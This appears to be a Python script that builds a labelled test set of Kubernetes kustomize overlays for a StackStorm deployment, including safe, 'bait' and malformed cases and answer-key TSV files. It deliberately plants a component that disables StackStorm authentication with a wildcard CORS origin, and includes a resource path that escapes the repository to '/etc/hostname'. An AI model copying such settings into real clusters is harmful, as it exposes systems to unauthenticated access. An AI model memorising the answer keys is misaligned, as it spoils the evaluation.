case('ok-mongo-pvc-retain', A, 'safe-store', "explicit persistentVolumeClaimRetentionPolicy Retain/Retain is the default", patches=[sts('mongodb', [{'op': 'add', 'path': '/spec/persistentVolumeClaimRetentionPolicy', 'value': {'whenDeleted': 'Retain', 'whenScaled': 'Retain'}}])])
case('ok-etcd-compaction', A, 'safe-store', "etcd --auto-compaction-retention=1 and 4GiB quota: upstream-recommended maintenance", patches=[sts('etcd', [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--auto-compaction-retention=1'}, {'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--quota-backend-bytes=4294967296'}])])
case('ok-etcd-timeouts', A, 'safe-store', "etcd heartbeat 250ms / election 2500ms (etcd tuning docs: election ~10x heartbeat)", patches=[sts('etcd', [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--heartbeat-interval=250'}, {'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--election-timeout=2500'}])])
case('ok-etcd-v2-repeat-true', A, 'bait', "--enable-v2=true repeated: same value", patches=[sts('etcd', [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--enable-v2'}])])
case('ok-rabbit-watermark', A, 'safe-store', "vm_memory_high_watermark.relative = 0.6 (RabbitMQ default 0.4; normal tuning)", patches=[jp('ConfigMap', 'rabbitmq-config', [{'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': "cluster_formation.peer_discovery_backend = rabbit_peer_discovery_classic_config\ncluster_formation.classic_config.nodes.1 = rabbit@rabbitmq-0.rabbitmq-discovery\ncluster_formation.classic_config.nodes.2 = rabbit@rabbitmq-1.rabbitmq-discovery\ncluster_formation.classic_config.nodes.3 = rabbit@rabbitmq-2.rabbitmq-discovery\nqueue_master_locator = min-masters\nloopback_users.guest = false\ncluster_partition_handling = pause_minority\nload_definitions = /etc/rabbitmq/definitions.json\nvm_memory_high_watermark.relative = 0.6\n"}])])
case('ok-mongo-resources-up', A, 'safe-store', "MongoDB memory limit raised to 8Gi", patches=[sts('mongodb', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/resources/limits/memory', 'value': '8Gi'}])])
case('ok-st2api-strategy', A, 'safe-k8s', "maxUnavailable 0 / maxSurge 1: zero-downtime rollouts", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/strategy', 'value': {'type': 'RollingUpdate', 'rollingUpdate': {'maxUnavailable': 0, 'maxSurge': 1}}}])])
case('ok-st2api-minready', A, 'safe-k8s', "minReadySeconds 10 on st2api", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/minReadySeconds', 'value': 10}])])
case('ok-st2api-hpa', A, 'safe-k8s', "HPA for st2api min 3 max 6 (active-active service)", resources=["""
apiVersion: autoscaling/v2
kind: HorizontalPodAutoscaler
metadata:
  name: st2api
spec:
  scaleTargetRef:
    apiVersion: apps/v1
    kind: Deployment
    name: st2api
  minReplicas: 3
  maxReplicas: 6
  metrics:
  - type: Resource
    resource:
      name: cpu
      target:
        type: Utilization
        averageUtilization: 75
"""])
case('ok-runner-hpa', A, 'safe-k8s', "HPA for st2actionrunner 8..16", resources=["""
apiVersion: autoscaling/v2
kind: HorizontalPodAutoscaler
metadata:
  name: st2actionrunner
spec:
  scaleTargetRef:
    apiVersion: apps/v1
    kind: Deployment
    name: st2actionrunner
  minReplicas: 8
  maxReplicas: 16
  metrics:
  - type: Resource
    resource:
      name: cpu
      target:
        type: Utilization
        averageUtilization: 70
"""])
case('ok-pdb-st2api-2', A, 'safe-k8s', "st2api PDB minAvailable 2 of 3", patches=[jp('PodDisruptionBudget', 'st2api', [{'op': 'replace', 'path': '/spec', 'value': {'minAvailable': 2, 'selector': {'matchLabels': {'app': 'st2api', 'release': 'st2'}}}}], 'policy')])
case('ok-tolerations', A, 'safe-k8s', "tolerations to run st2actionrunner on a dedicated tainted pool", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/tolerations', 'value': [{'key': 'dedicated', 'operator': 'Equal', 'value': 'st2', 'effect': 'NoSchedule'}]}])])
case('ok-priority-custom', A, 'safe-k8s', "priorityClassName st2-high defined in the render (value 100000, below system classes) on st2api", resources=["""
apiVersion: scheduling.k8s.io/v1
kind: PriorityClass
metadata:
  name: st2-high
value: 100000
preemptionPolicy: PreemptLowerPriority
description: st2 request path
"""], patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/priorityClassName', 'value': 'st2-high'}])])
case('ok-labels-team', A, 'safe-k8s', "extra labels transformer team=automation (no selectors)", extra={'labels': [{'pairs': {'team': 'automation'}}]})
case('ok-common-annotations', A, 'safe-k8s', "commonAnnotations owner contact", extra={'commonAnnotations': {'owner': 'automation@example.com'}})
case('ok-tz-env', A, 'safe-k8s', "TZ=UTC env on st2timersengine (timers in UTC)", patches=[dep('st2timersengine', [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': 'TZ', 'value': 'UTC'}]}])])
case('ok-no-proxy-inside', A, 'bait', "HTTPS_PROXY to the corporate proxy with NO_PROXY covering cluster names: internal traffic stays inside, only outbound pack downloads proxied", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': 'HTTPS_PROXY', 'value': 'http://proxy.corp.example.com:3128'}, {'name': 'NO_PROXY', 'value': 'localhost,127.0.0.1,.svc,.cluster.local,st2api,st2auth,st2stream,rabbitmq,mongodb-0.mongodb,mongodb-1.mongodb,mongodb-2.mongodb,etcd'}]}])])
case('ok-hostalias-internal', A, 'bait', "hostAliases for an internal git server (10.x) used by pack installs; no st2 store name", patches=[dep('st2actionrunner', [{'op': 'add', 'path': '/spec/template/spec/hostAliases', 'value': [{'ip': '10.20.30.40', 'hostnames': ['git.corp.example.com']}]}])])
case('ok-dnsconfig-ndots', A, 'bait', "dnsConfig ndots:2 with ClusterFirst: fewer search lookups, same resolver", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/dnsConfig', 'value': {'options': [{'name': 'ndots', 'value': '2'}]}}])])
case('ok-ingress-body-size', A, 'safe-exposure', "Ingress proxy-body-size annotation for large pack uploads", patches=[jp('Ingress', 'st2web', [{'op': 'add', 'path': '/metadata/annotations/nginx.ingress.kubernetes.io~1proxy-body-size', 'value': '20m'}], 'networking.k8s.io')])
case('ok-ingress-allowlist', A, 'safe-exposure', "Ingress whitelist-source-range to the corporate range", patches=[jp('Ingress', 'st2web', [{'op': 'add', 'path': '/metadata/annotations/nginx.ingress.kubernetes.io~1whitelist-source-range', 'value': '10.0.0.0/8,192.0.2.0/24'}], 'networking.k8s.io')])
case('ok-ingress-host-change', A, 'safe-exposure', "Ingress host moved to st2.corp.example.com with matching TLS host", patches=[jp('Ingress', 'st2web', [{'op': 'replace', 'path': '/spec/rules/0/host', 'value': 'st2.corp.example.com'}, {'op': 'replace', 'path': '/spec/tls/0/hosts/0', 'value': 'st2.corp.example.com'}], 'networking.k8s.io')])
case('ok-netpol-mongo-ingress', A, 'safe-exposure', "NetworkPolicy letting only st2 pods and mongodb peers reach MongoDB", resources=["""
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: mongodb-ingress
spec:
  podSelector:
    matchLabels:
      app: mongodb
  policyTypes: [Ingress]
  ingress:
  - from:
    - podSelector:
        matchLabels:
          release: st2
    - podSelector:
        matchLabels:
          app: mongodb
    ports:
    - port: 27017
"""])
case('ok-argocd-ssa', A, 'safe-argocd', "sync-options ServerSideApply=true on Deployments", patches=[{'target': {'group': 'apps', 'kind': 'Deployment'}, 'patch': json.dumps([{'op': 'add', 'path': '/metadata/annotations/argocd.argoproj.io~1sync-options', 'value': 'ServerSideApply=true'}])}])
case('ok-argocd-ns-delete-false', A, 'safe-argocd', "Namespace annotated sync-options Delete=false: Argo CD never prunes it", patches=[jp('Namespace', 'st2-prod', [{'op': 'add', 'path': '/metadata/annotations', 'value': {'argocd.argoproj.io/sync-options': 'Delete=false'}}])])
case('ok-argocd-ns-wave-early', A, 'safe-argocd', "Namespace in sync-wave -10 (before everything): the right order", patches=[jp('Namespace', 'st2-prod', [{'op': 'add', 'path': '/metadata/annotations', 'value': {'argocd.argoproj.io/sync-wave': '-10'}}])])
case('ok-argocd-job-hook-delete', A, 'safe-argocd', "hook-delete-policy BeforeHookCreation on register-content Job", patches=[jp('Job', 'st2-register-content', [{'op': 'add', 'path': '/metadata/annotations/argocd.argoproj.io~1hook-delete-policy', 'value': 'BeforeHookCreation'}])])
case('ok-argocd-compare-ignore', A, 'safe-argocd', "compare-options IgnoreExtraneous on the st2-urls ConfigMap", patches=[jp('ConfigMap', 'st2-urls', [{'op': 'add', 'path': '/metadata/annotations', 'value': {'argocd.argoproj.io/compare-options': 'IgnoreExtraneous'}}])])
case('ok-image-docker-io', A, 'safe-supply', "images written with explicit docker.io/ registry: same image", extra={'images': [{'name': 'stackstorm/st2api', 'newName': 'docker.io/stackstorm/st2api', 'newTag': '3.8.1'}]})
case('ok-image-digest', A, 'safe-supply', "mongo pinned to 4.4.29 plus digest", extra={'images': [{'name': 'mongo', 'newTag': '4.4.29', 'digest': 'sha256:3a6d6d1b7b3f7d6c2c0e8e34f1ab2b0e5a6f1b2c3d4e5f60718293a4b5c6d7e8'}]})
case('ok-rabbit-patch-version', A, 'safe-supply', "rabbitmq 3.12.14 -> 3.13.7: the supported next-minor upgrade (RabbitMQ upgrade docs: 3.12 -> 3.13 rolling upgrade with feature flags enabled)", extra={'images': [{'name': 'rabbitmq', 'newTag': '3.13.7'}]})
case('ok-backup-cronjob', A, 'bait', "nightly mongodump CronJob to an in-namespace PVC using the admin Secret by reference", resources=["""
apiVersion: batch/v1
kind: CronJob
metadata:
  name: mongodb-backup
spec:
  schedule: "30 2 * * *"
  concurrencyPolicy: Forbid
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: OnFailure
          containers:
          - name: dump
            image: mongo:4.4.29
            command: [sh, -c, 'mongodump --host rs0/mongodb-0.mongodb:27017,mongodb-1.mongodb:27017,mongodb-2.mongodb:27017 --readPreference secondary -u "$U" -p "$P" --authenticationDatabase admin --gzip --archive=/backup/st2-$(date +%F).gz']
            env:
            - {name: U, valueFrom: {secretKeyRef: {name: mongodb-admin, key: user}}}
            - {name: P, valueFrom: {secretKeyRef: {name: mongodb-admin, key: password}}}
            resources: {requests: {cpu: 100m, memory: 256Mi}, limits: {cpu: 1000m, memory: 1Gi}}
            volumeMounts:
            - {name: b, mountPath: /backup}
          volumes:
          - name: b
            persistentVolumeClaim:
              claimName: mongodb-backup
---
apiVersion: v1
kind: PersistentVolumeClaim
metadata:
  name: mongodb-backup
spec:
  accessModes: [ReadWriteOnce]
  resources:
    requests:
      storage: 50Gi
"""])
case('ok-configmap-password-word', A, 'bait', "a ConfigMap documenting password rotation steps, containing words like password/secret but no value", resources=["""
apiVersion: v1
kind: ConfigMap
metadata:
  name: st2-runbook
data:
  rotate.md: |
    To rotate the MongoDB password: update stackstorm/mongodb in Vault,
    the ExternalSecret refreshes within 1h, then `kubectl rollout restart deploy -l release=st2`.
    Never put the password itself here. secret: see Vault.
"""])
case('ok-example-password-doc', A, 'bait', "ConfigMap with a placeholder 'password: <from-vault>' in a pack config template", resources=["""
apiVersion: v1
kind: ConfigMap
metadata:
  name: pack-config-template
data:
  jira.yaml: |
    url: https://jira.example.com
    username: st2-bot
    password: "{{ st2kv.system.jira_password | decrypt_kv }}"
"""])
case('ok-rollout-restart-cron', A, 'bait', "CronJob doing `kubectl rollout restart` of st2sensorcontainer weekly (README: rollout restart passes)", resources=["""
apiVersion: batch/v1
kind: CronJob
metadata:
  name: restart-sensors
spec:
  schedule: "0 4 * * 0"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers:
          - name: k
            image: bitnami/kubectl:1.30
            command: [kubectl, rollout, restart, deployment/st2sensorcontainer]
            resources: {requests: {cpu: 10m, memory: 32Mi}, limits: {cpu: 200m, memory: 128Mi}}
"""])
case('ok-staging-replica-tune', A, 'safe-k8s', "staging: st2api to 2 replicas", env='staging', extra={'replicas': [{'name': 'st2api', 'count': 2}]})
case('ok-dev-runner-1', A, 'safe-k8s', "dev: st2actionrunner to 1 replica", env='dev', extra={'replicas': [{'name': 'st2actionrunner', 'count': 1}]})
case('ok-dev-user-conf-debug', A, 'safe-config', "dev: [system] debug = True on a dev cluster with dev data (lenient env)", env='dev', patches=[userconf("\n[system]\ndebug = True\n")])
case('ok-runner-resources', A, 'safe-k8s', "bigger st2actionrunner requests", patches=[dep('st2actionrunner', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/resources/requests/cpu', 'value': '1000m'}])])
case('ok-topology-spread-any', A, 'safe-k8s', "topologySpreadConstraints ScheduleAnyway on st2rulesengine", patches=[dep('st2rulesengine', [{'op': 'add', 'path': '/spec/template/spec/topologySpreadConstraints', 'value': [{'maxSkew': 1, 'topologyKey': 'topology.kubernetes.io/zone', 'whenUnsatisfiable': 'ScheduleAnyway', 'labelSelector': {'matchLabels': {'app': 'st2rulesengine'}}}]}])])
case('ok-sa-no-automount', A, 'safe-k8s', "automountServiceAccountToken false on st2 pods", patches=[{'target': {'group': 'apps', 'kind': 'Deployment', 'labelSelector': 'release=st2'}, 'patch': json.dumps([{'op': 'add', 'path': '/spec/template/spec/automountServiceAccountToken', 'value': False}])}])
case('ok-seccomp-runtime-default', A, 'safe-k8s', "seccompProfile RuntimeDefault added to st2api's pod securityContext (fsGroup kept): Kubernetes pod security restricted profile", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/securityContext/seccompProfile', 'value': {'type': 'RuntimeDefault'}}])])
case('ok-st2-pack-config', A, 'safe-config', "st2-pack-configs gains a non-secret pack config (core.yaml style)", patches=[jp('ConfigMap', 'st2-pack-configs', [{'op': 'add', 'path': '/data/email.yaml', 'value': "smtp_server: smtp.example.com\nsmtp_port: 587\n"}])])
case('ok-mongo-hostname-alias', A, 'bait', "hostAliases in st2api mapping an internal LDAP name to a 10.x IP (not a store name)", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/hostAliases', 'value': [{'ip': '10.1.2.3', 'hostnames': ['ldap.corp.example.com']}]}])])
case('ok-log-level-env', A, 'safe-config', "PYTHONUNBUFFERED=1 env on st2api", patches=[dep('st2api', [{'op': 'add', 'path': '/spec/template/spec/containers/0/env', 'value': [{'name': 'PYTHONUNBUFFERED', 'value': '1'}]}])])
case('ok-limitrange-sane', A, 'safe-k8s', "LimitRange default requests only (no max): affects containers without requests", resources=["""
apiVersion: v1
kind: LimitRange
metadata:
  name: defaults
spec:
  limits:
  - type: Container
    defaultRequest:
      cpu: 50m
      memory: 64Mi
"""])
case('ok-resourcequota-large', A, 'safe-k8s', "ResourceQuota generous (pods 200)", resources=["""
apiVersion: v1
kind: ResourceQuota
metadata:
  name: st2
spec:
  hard:
    pods: "200"
    requests.cpu: "64"
"""])
case('ok-regex-patch-grace', A, 'safe-k8s', "regex-target patch adding terminationGracePeriodSeconds 60 to st2(api|auth|stream)", patches=[{'target': {'kind': 'Deployment', 'name': 'st2(api|auth|stream)'}, 'patch': json.dumps([{'op': 'add', 'path': '/spec/template/spec/terminationGracePeriodSeconds', 'value': 60}])}])
case('ok-replicas-scheduler-2', A, 'safe-k8s', "st2scheduler from 3 to 2 (st2 3.8 supports several schedulers with coordination)", extra={'replicas': [{'name': 'st2scheduler', 'count': 2}]})
case('ok-es-refresh', A, 'safe-secret', "ExternalSecrets refreshInterval 15m", patches=[{'target': {'group': 'external-secrets.io', 'kind': 'ExternalSecret'}, 'patch': json.dumps([{'op': 'replace', 'path': '/spec/refreshInterval', 'value': '15m'}])}])

# ---------------------------------------------------------------- bad input
case('bad-yaml-syntax', B, 'malformed', "kustomization.yaml with an unclosed flow sequence", raw="resources: [../../prod\npatches:\n  - path: x.yaml\n")
case('bad-patch-missing-path', B, 'malformed', "JSON patch replace of a path that does not exist (kustomize error)", patches=[dep('st2api', [{'op': 'replace', 'path': '/spec/template/spec/nosuch/field', 'value': 1}])])
case('bad-replicas-string', B, 'malformed', "replicas count 'three' (kustomize requires an integer)", raw="resources:\n- ../../prod\nreplicas:\n- name: st2api\n  count: three\n")
case('bad-missing-resource', B, 'malformed', "resource file that does not exist", raw="resources:\n- ../../prod\n- nothere.yaml\n")
case('bad-escape-repo', B, 'malformed', "resource path leaving the repository", raw="resources:\n- ../../prod\n- ../../../../../../etc/hostname\n")
case('bad-dup-resource', B, 'malformed', "the same Deployment id added twice (kustomize: may not add resource with an already registered id)", raw="resources:\n- ../../prod\n- dup.yaml\n", files={'dup.yaml': "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: st2api\n  namespace: st2-prod\nspec:\n  replicas: 1\n"})
case('bad-op-unknown', B, 'malformed', "JSON patch with op 'merge' (not RFC 6902)", patches=[dep('st2api', [{'op': 'merge', 'path': '/spec/replicas', 'value': 3}])])
case('bad-tab-indent', B, 'malformed', "YAML indented with a tab", raw="resources:\n\t- ../../prod\n")
case('bad-smp-no-match', B, 'malformed', "strategic merge patch file for a Deployment that doesn't exist (kustomize: no matches for Id)", raw="resources:\n- ../../prod\npatches:\n- path: p.yaml\n", files={'p.yaml': "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: st2nothing\nspec:\n  replicas: 2\n"})
case('bad-replacement-source', B, 'malformed', "replacements whose source object does not exist", raw="resources:\n- ../../prod\nreplacements:\n- source:\n    kind: ConfigMap\n    name: nope\n    fieldPath: data.x\n  targets:\n  - select:\n      kind: ConfigMap\n      name: st2-urls\n    fieldPaths:\n    - data.ST2_API_URL\n")
case('bad-remove-missing', B, 'malformed', "JSON patch remove of a missing path", patches=[sts('mongodb', [{'op': 'remove', 'path': '/spec/template/spec/hostNetwork'}])])
case('bad-replicas-float', B, 'malformed', "replicas 2.5 via JSON patch (README: non-integer count is bad input)", patches=[dep('st2api', [{'op': 'replace', 'path': '/spec/replicas', 'value': 2.5}])])

# fix the component case: write a proper component
comp = os.path.join(CASES, 'component-inline-auth-off', 'comp')
os.makedirs(comp, exist_ok=True)
open(os.path.join(comp, 'kustomization.yaml'), 'w').write("""apiVersion: kustomize.config.k8s.io/v1alpha1
kind: Component
patches:
- target:
    kind: ConfigMap
    name: st2-config
  patch: |-
    apiVersion: v1
    kind: ConfigMap
    metadata:
      name: st2-config
    data:
      st2.user.conf: |
        [api]
        allow_origin = '*'
        [auth]
        enable = False
""")
# remove the bogus top-level file write
try: os.remove(os.path.join(CASES, 'component-inline-auth-off', 'comp/kustomization.yaml.tmp'))
except FileNotFoundError: pass

with open(os.path.join(ROOT, 'verdicts.tsv'), 'w') as f:
    for r in V: f.write('\t'.join(x.replace('\t', ' ').replace('\n', ' ') for x in r) + '\n')
with open(os.path.join(ROOT, 'planted.tsv'), 'w') as f:
    for r in P: f.write('\t'.join(r) + '\n')
from collections import Counter
print(len(V), Counter(r[1] for r in V))
